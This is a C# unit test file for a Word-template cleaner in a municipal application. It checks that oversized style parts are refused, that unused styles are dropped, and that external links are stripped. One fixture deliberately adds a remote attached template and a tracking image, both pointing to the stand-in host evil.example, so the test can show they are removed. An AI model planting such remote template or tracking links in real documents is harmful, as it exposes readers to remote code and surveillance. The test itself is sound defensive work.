namespace Remiss.Tests.Features.Documents;

using System.Globalization;
using System.IO.Compression;
using DocumentFormat.OpenXml;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Wordprocessing;
using Remiss.Domain.Common;
using Text = DocumentFormat.OpenXml.Wordprocessing.Text;
using Remiss.Infrastructure.Documents;
using Remiss.Tests.TestSupport;

/// <summary>
/// The penetration test's template: a few megabytes on the wire, a styles part of real styles far larger unpacked. It is
/// refused before OpenXml reads it; an ordinary template keeps only the styles in use and nothing external.
/// </summary>
public sealed class TemplateCleaningTests
{
    [Fact]
    public void ATemplateWhoseStylesUnpackBeyondTheLimit_IsRefused_BeforeItIsOpened()
    {
        var bytes = TemplateWithStyles(count: 60_000);
        Assert.True(bytes.Length < TemplateCleaning.MaxPartBytes, "small on the wire");

        var e = Assert.Throws<DomainException>(() => DocumentTemplates.Clean(bytes));

        e.AssertRefused(Field.File, RefusalKey.TemplatePartTooLarge, TemplateCleaning.MaxPartBytes / (1024 * 1024));
        Assert.Contains("för stor", e.Said(), StringComparison.Ordinal);
    }

    [Fact]
    public void AnOrdinaryTemplate_KeepsTheStylesInUse_AndWhatTheyAreBasedOn_AndDropsTheRest()
    {
        var cleaned = DocumentTemplates.Clean(TemplateWithStyles(count: 2_000));

        using var package = WordprocessingDocument.Open(new MemoryStream(cleaned), false);
        var ids = package.MainDocumentPart!.StyleDefinitionsPart!.Styles!.Elements<Style>().Select(s => s.StyleId!.Value).ToHashSet();
        Assert.Contains("Normal", ids);
        Assert.Contains("Rubrik1", ids);
        Assert.Contains("Sidhuvud", ids);
        Assert.Contains("SidhuvudBas", ids);
        Assert.DoesNotContain("Oanvand00001", ids);
        Assert.Equal(4, ids.Count);
    }

    [Fact]
    public void AnAttachedTemplateAndExternalLinks_AreRemoved_SoNoDocumentFetchesAnything()
    {
        var cleaned = DocumentTemplates.Clean(TemplateWithStyles(count: 10, external: true));

        using var package = WordprocessingDocument.Open(new MemoryStream(cleaned), false);
        var main = package.MainDocumentPart!;
        Assert.Empty(main.DocumentSettingsPart!.Settings!.Elements<AttachedTemplate>());
        Assert.Empty(main.DocumentSettingsPart.ExternalRelationships);
        Assert.All(main.HeaderParts, h => Assert.Empty(h.ExternalRelationships));
        Assert.Equal("Malmö stad", string.Concat(main.HeaderParts.Single().Header!.Descendants<Text>().Select(t => t.Text)));
        Assert.Empty(new DocumentFormat.OpenXml.Validation.OpenXmlValidator().Validate(package));
    }

    /// <summary>
    /// A template whose styles part holds <paramref name="count"/> styles nobody uses (each different, so it packs like real
    /// styles, not like a zip bomb), and a header in a style based on another.
    /// </summary>
    private static byte[] TemplateWithStyles(int count, bool external = false)
    {
        using var output = new MemoryStream();
        using (var package = WordprocessingDocument.Create(output, WordprocessingDocumentType.Template))
        {
            var main = package.AddMainDocumentPart();
            var styles = new Styles(
                new Style(new StyleName { Val = "Normal" }) { Type = StyleValues.Paragraph, StyleId = "Normal", Default = true },
                new Style(new StyleName { Val = "heading 1" }, new BasedOn { Val = "Normal" }) { Type = StyleValues.Paragraph, StyleId = "Rubrik1" },
                new Style(new StyleName { Val = "Sidhuvud bas" }) { Type = StyleValues.Paragraph, StyleId = "SidhuvudBas" },
                new Style(new StyleName { Val = "Sidhuvud" }, new BasedOn { Val = "SidhuvudBas" }) { Type = StyleValues.Paragraph, StyleId = "Sidhuvud" });
            var random = new Random(7);
            for (var i = 1; i <= count; i++)
            {
                var id = string.Create(CultureInfo.InvariantCulture, $"Oanvand{i:D5}");
                styles.Append(new Style(
                    new StyleName { Val = id + " " + random.Next() },
                    new BasedOn { Val = "Normal" },
                    new StyleParagraphProperties(new SpacingBetweenLines { After = random.Next(0, 400).ToString(CultureInfo.InvariantCulture), Line = random.Next(200, 400).ToString(CultureInfo.InvariantCulture) }),
                    new StyleRunProperties(new RunFonts { Ascii = "Arial" + random.Next(100) }, new Color { Val = random.Next(0x1000000).ToString("X6", CultureInfo.InvariantCulture) }, new FontSize { Val = random.Next(16, 40).ToString(CultureInfo.InvariantCulture) }))
                {
                    Type = StyleValues.Paragraph,
                    StyleId = id,
                });
            }

            main.AddNewPart<StyleDefinitionsPart>().Styles = styles;
            var header = main.AddNewPart<HeaderPart>();
            header.Header = new Header(new Paragraph(new ParagraphProperties(new ParagraphStyleId { Val = "Sidhuvud" }), new Run(new Text("Malmö stad"))));
            var settings = main.AddNewPart<DocumentSettingsPart>();
            settings.Settings = new Settings();
            if (external)
            {
                var attached = settings.AddExternalRelationship(
                    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", new Uri("https://evil.example/mall.dotm"));
                settings.Settings.Append(new AttachedTemplate { Id = attached.Id });
                header.AddExternalRelationship("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", new Uri("https://evil.example/spårning.png"));
            }

            main.Document = new Document(new Body(
                new Paragraph(new Run(new Text("Mallens egen text"))),
                new SectionProperties(new HeaderReference { Type = HeaderFooterValues.Default, Id = main.GetIdOfPart(header) })));
        }

        return output.ToArray();
    }
}
